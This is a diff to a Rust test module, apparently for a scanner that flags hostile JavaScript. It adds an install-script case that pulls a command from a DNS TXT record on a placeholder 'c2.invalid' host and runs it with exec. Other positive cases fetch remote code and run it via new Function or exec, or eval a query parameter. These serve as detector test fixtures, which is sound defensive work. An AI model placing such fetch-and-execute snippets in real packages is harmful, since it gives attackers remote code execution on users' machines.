@@ -74,9 +74,11 @@ mod tests {
                 Case::Js("async function f() { const r = await fetch('https://x.invalid/a'); const code = await r.text(); new Function(code)(); }"),
                 Case::Js("app.get('/', function (req, res) { res.send('ok ' + eval(req.query.q)); });"),
                 Case::Js("const { exec } = require('child_process');\nrequire('https').get('https://x.invalid/cmd', (res) => { let d = ''; res.on('data', (c) => (d += c)); res.on('end', () => exec(d)); });"),
+                Case::InstallJs("const { exec } = require('child_process');\nrequire('https').get('https://resolver.invalid/resolve?name=c2.invalid&type=TXT', (res) => {\n  const parts = [];\n  res.on('data', (c) => parts.push(c));\n  res.on('end', () => exec(JSON.parse(Buffer.concat(parts).toString()).Answer[0].data));\n});"),
             ],
             &[
                 Case::Js("async function f() { const r = await fetch('https://x.invalid/a'); const j = await r.json(); console.log(j); }"),
+                Case::Js("const { execFile } = require('child_process');\nconst lines = [];\nrequire('https').get('https://x.invalid/v', (res) => { res.on('data', (c) => lines.push(c)); res.on('end', () => execFile('git', ['tag', Buffer.concat(lines).toString().trim()])); });"),
                 Case::Js("app.get('/', (req, res) => { res.json({ q: req.query.q }); });"),
                 Case::Js("const code = fs.readFileSync('tpl.js', 'utf8'); const fn = new Function('x', 'return x');"),
             ],
